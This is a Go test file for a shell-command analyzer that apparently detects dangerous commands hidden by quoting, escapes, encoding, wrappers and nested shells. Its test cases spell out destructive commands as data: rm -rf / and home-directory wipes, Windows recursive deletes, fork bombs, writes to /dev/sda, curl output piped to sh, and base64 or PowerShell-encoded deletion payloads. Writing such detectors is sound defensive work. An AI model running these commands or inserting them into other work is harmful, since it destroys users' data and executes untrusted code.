package shell

import (
	"strings"
	"testing"
)

// summary renders an analysis compactly: name[args] per command, with
// D for DynName, F for FedCode, @n for depth, w:wrappers.
func summary(a Analysis) string {
	var parts []string
	for _, c := range a.Cmds {
		s := c.Name
		if c.DynName {
			s = "$" + s
		}
		if len(c.Args) > 0 {
			s += "[" + strings.ReplaceAll(strings.Join(c.Args, ","), Dyn, "?") + "]"
		}
		for _, r := range c.Redirs {
			t := r.Target
			if r.Op == "<<" || r.Op == "<<-" || r.Op == "<<<" {
				t = "…"
			}
			s += " " + r.Op + strings.ReplaceAll(t, Dyn, "?")
		}
		if c.FedCode {
			s += " F"
		}
		if c.Depth > 0 {
			s += " @" + string(rune('0'+c.Depth))
		}
		if len(c.Wrappers) > 0 {
			s += " w:" + strings.Join(c.Wrappers, ",")
		}
		parts = append(parts, s)
	}
	out := strings.Join(parts, " ; ")
	if a.Err != nil {
		out += " ERR"
	}
	if a.ForkBomb != "" {
		out += " BOMB"
	}
	return out
}

func TestAnalyze(t *testing.T) {
	cases := []struct{ in, want string }{
		{"git status", "git[status]"},
		{"git status; rm -rf /", "git[status] ; rm[-rf,/]"},
		{"ls && rm -rf ~ || echo x", "ls ; rm[-rf,~] ; echo[x]"},
		{"\\rm -rf /", "rm[-rf,/]"},
		{"/bin/rm -rf /", "rm[-rf,/]"},
		{"r''m -rf /", "rm[-rf,/]"},
		{`"r"m -rf /`, "rm[-rf,/]"},
		{`\r\m -rf /`, "rm[-rf,/]"},
		{`$'\x72\x6d' -rf /`, "rm[-rf,/]"},
		{`$'\162m' -rf /`, "rm[-rf,/]"},
		{`RM.EXE -rf /`, "rm[-rf,/]"},
		{`rm -rf "$HOME"`, "rm[-rf,~]"},
		{`rm -rf ${HOME}/`, "rm[-rf,~/]"},
		{`rm -rf "$X"`, "rm[-rf,?]"},
		{`$CMD -rf /`, "$[-rf,/]"},
		{`$(echo rm) -rf /`, "echo[rm] ; rm[-rf,/]"},
		{"echo `rm -rf /`", "rm[-rf,/] ; echo[?]"},
		{`X=$(rm -rf /)`, "rm[-rf,/]"},
		{`cat <(rm -rf /)`, "rm[-rf,/] ; cat[?]"},
		{`sudo -u root rm -rf /`, "rm[-rf,/] w:sudo"},
		{`sudo env FOO=1 nice -n 5 timeout 10 nohup rm -rf /`, "rm[-rf,/] w:sudo,env,nice,timeout,nohup"},
		{`env -S 'rm -rf /'`, "rm[-rf,/] w:env"},
		{`xargs rm -rf`, "rm[-rf,?] w:xargs"},
		{`xargs -I{} rm -rf {}`, "rm[-rf,?] w:xargs"},
		{`find / -exec rm -rf {} \;`, "find[/,-exec,rm,-rf,{},;] ; rm[-rf,{}] w:find"},
		{`bash -c 'rm -rf /'`, "bash[-c,rm -rf /] F ; rm[-rf,/] @1"},
		{`sh -lc "git status && rm -rf ~"`, "sh[-lc,git status && rm -rf ~] F ; git[status] @1 ; rm[-rf,~] @1"},
		{`eval "rm -rf /"`, "eval[rm -rf /] F ; rm[-rf,/] @1"},
		{`echo 'rm -rf /' | sh`, "echo[rm -rf /] ; sh F ; rm[-rf,/] @1"},
		{`printf 'rm -rf %s\n' / | bash`, "printf[rm -rf %s\\n,/] ; bash F ; rm[-rf,/] @1"},
		{`curl -s http://x | sh`, "curl[-s,http://x] ; sh[?] F"},
		{`base64 -d <<< cm0gLXJmIC8= | bash`, "base64[-d] <<<… ; bash[?] F"},
		{`bash <(curl http://x)`, "curl[http://x] ; bash[?] F"},
		{`sh -c "$X"`, "sh[-c,?] F ; $ @1"},
		{"sh <<EOF\nrm -rf /\nEOF", "sh <<… F ; rm[-rf,/] @1"},
		{`bash <<< 'rm -rf /'`, "bash <<<… F ; rm[-rf,/] @1"},
		{"cat > x.sh <<'EOF'\nrm -rf /\nEOF\nsh x.sh", "cat >x.sh <<… ; sh[x.sh] F ; rm[-rf,/] @1"},
		{`echo 'rm -rf /' > y.sh; chmod +x y.sh; ./y.sh`, "echo[rm -rf /] >y.sh ; chmod[+x,y.sh] ; y.sh F ; rm[-rf,/] @1"},
		{`su -c 'rm -rf /'`, "su[-c,rm -rf /] F ; rm[-rf,/] @1"},
		{`watch rm -rf /tmp/x`, "watch[rm,-rf,/tmp/x] F ; rm[-rf,/tmp/x] @1"},
		{`cmd /c "rd /s /q C:\"`, ""}, // parse error: see below
		{`cmd.exe /c rd /s /q C:\Windows`, "cmd[/c,rd,/s,/q,C:\\Windows] F ; rd[/s,/q,C:\\Windows] @1"},
		{`powershell -NoProfile -Command "Remove-Item -Recurse -Force $env:USERPROFILE"`, "powershell[-NoProfile,-Command,Remove-Item -Recurse -Force ~] F ; remove-item[-Recurse,-Force,~] @1"},
		{`Remove-Item -Recurse -Force $env:USERPROFILE\Documents`, "remove-item[-Recurse,-Force,~\\Documents]"},
		{`:(){ :|:& };:`, ": ; : ; : BOMB"},
		{`bomb(){ bomb | bomb & }; bomb`, "bomb ; bomb ; bomb BOMB"},
		{`while true; do sleep 1 & done`, "true ; sleep[1] BOMB"},
		{`A=r; B=m; $A$B -rf /`, "rm[-rf,/]"},
		{`echo hi > /dev/sda`, "echo[hi] >/dev/sda"},
		{`{ echo a; } > out.txt`, "echo[a] ;  >out.txt"},
		{`command -v rm`, "command[-v,rm]"},
		{`time rm -rf /`, "rm[-rf,/]"},
		{`if true; then rm -rf /; fi`, "true ; rm[-rf,/]"},
		{`for f in *; do rm -rf "$f"; done`, "rm[-rf,*]"},
		{`powershell -enc cgBtACAALQByAGYAIAAvAA==`, "powershell[-enc,cgBtACAALQByAGYAIAAvAA==] F ; rm[-rf,/] @1"},
		{`parallel rm -rf ::: a b`, "rm[-rf,a,b] w:parallel"},
	}
	for _, c := range cases {
		got := summary(Analyze(c.in))
		if c.want == "" {
			continue
		}
		if got != c.want {
			t.Errorf("%q\n got %s\nwant %s", c.in, got, c.want)
		}
	}
}

func TestAnalyzeParseErrorStillSplits(t *testing.T) {
	a := Analyze(`cmd /c "rd /s /q C:\"`)
	if a.Err == nil {
		t.Fatalf("want a parse error, got %s", summary(a))
	}
	found := false
	for _, c := range a.Cmds {
		if c.Name == "rd" {
			found = true
		}
	}
	if !found {
		t.Errorf("fallback did not find rd: %s", summary(a))
	}
}

func TestCaps(t *testing.T) {
	deep := "rm -rf /"
	for i := 0; i < 12; i++ {
		deep = "bash -c " + quote(deep)
	}
	if a := Analyze(deep); a.Err == nil {
		t.Errorf("depth cap not hit: %s", summary(a))
	}
	many := strings.Repeat("true;", MaxCmds+10)
	if a := Analyze(many); a.Err == nil || len(a.Cmds) > MaxCmds {
		t.Errorf("command cap not hit: %d cmds, err %v", len(a.Cmds), a.Err)
	}
	big := strings.Repeat("a", MaxInput+1)
	if a := Analyze(big); a.Err == nil {
		t.Errorf("size cap not hit")
	}
}

func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// TestFlags checks the per-command flags rules rely on.
func TestFlags(t *testing.T) {
	find := func(a Analysis, name string) *Cmd {
		for i := range a.Cmds {
			if a.Cmds[i].Name == name {
				return &a.Cmds[i]
			}
		}
		t.Fatalf("no %s in %s", name, summary(a))
		return nil
	}
	cases := []struct {
		in, name string
		check    func(c *Cmd) bool
		what     string
	}{
		{"r''m -rf x", "rm", func(c *Cmd) bool { return c.Obfuscated }, "obfuscated"},
		{"\\rm -rf x", "rm", func(c *Cmd) bool { return !c.Obfuscated }, "not obfuscated"},
		{`"$(which rm)" x`, "rm", func(c *Cmd) bool { return !c.Obfuscated }, "not obfuscated"},
		{"A=r; B=m; $A$B x", "rm", func(c *Cmd) bool { return c.Obfuscated }, "obfuscated"},
		{"curl -s http://x | sh", "sh", func(c *Cmd) bool { return c.HiddenCode && c.FedCode }, "hidden fed code"},
		{"echo ls | sh", "sh", func(c *Cmd) bool { return c.FedCode && !c.HiddenCode }, "visible fed code"},
		{"curl -o i.sh http://x; sh i.sh", "sh", func(c *Cmd) bool { return c.HiddenCode }, "hidden script"},
		{"env -C /tmp ls", "ls", func(c *Cmd) bool { return c.Dir == "/tmp" }, "Dir /tmp"},
		{"sudo -D /srv ls", "ls", func(c *Cmd) bool { return c.Dir == "/srv" }, "Dir /srv"},
		{"f(){ :; }; f", "f", func(c *Cmd) bool { return c.Func }, "function call"},
		{"sleep 1 &", "sleep", func(c *Cmd) bool { return c.Background }, "background"},
		{"ls | grep x | wc -l", "grep", func(c *Cmd) bool {
			return strings.Join(c.PipedFrom, ",") == "ls" && strings.Join(c.PipedTo, ",") == "wc"
		}, "piped from ls to wc"},
		{"Start-Process cmd -ArgumentList '/c dir'", "dir", func(c *Cmd) bool { return c.Depth == 1 }, "dir inside cmd /c"},
		{"echo 'print(1)' | python3", "python3", func(c *Cmd) bool {
			return c.FedCode && len(c.Redirs) == 1 && c.Redirs[0].Op == "<<<" && c.Redirs[0].Target == "print(1)"
		}, "code as a here-string"},
	}
	for _, c := range cases {
		a := Analyze(c.in)
		if cmd := find(a, c.name); !c.check(cmd) {
			t.Errorf("%q: %s is not %s: %+v", c.in, c.name, c.what, *cmd)
		}
	}
}

func TestBraces(t *testing.T) {
	for in, want := range map[string]string{
		"rm -rf {/,}":          "rm[-rf,/,]",
		"rm -rf /{etc,usr}":    "rm[-rf,/etc,/usr]",
		"rm -rf {build,dist}":  "rm[-rf,build,dist]",
		"echo a{1..3}b":        "echo[a1b,a3b]",
		"find . -exec rm {} +": "find[.,-exec,rm,{},+] ; rm[{}] w:find",
	} {
		if got := summary(Analyze(in)); got != want {
			t.Errorf("%q: got %s, want %s", in, got, want)
		}
	}
}

func TestNoRecursionLoops(t *testing.T) {
	for _, in := range []string{"sh < /dev/stdin", "bash /dev/stdin < /dev/stdin", "cat x | sh - < /dev/fd/0", "powershell - < /dev/stdin"} {
		Analyze(in) // must return
	}
}

func TestSelfRunningScriptIsBounded(t *testing.T) {
	body := strings.Repeat("sh x.sh; ", 50)
	a := Analyze("cat > x.sh <<'EOF'\n" + body + "\nEOF\nsh x.sh")
	if a.Err == nil {
		t.Errorf("expected a cap error, got %d commands", len(a.Cmds))
	}
}
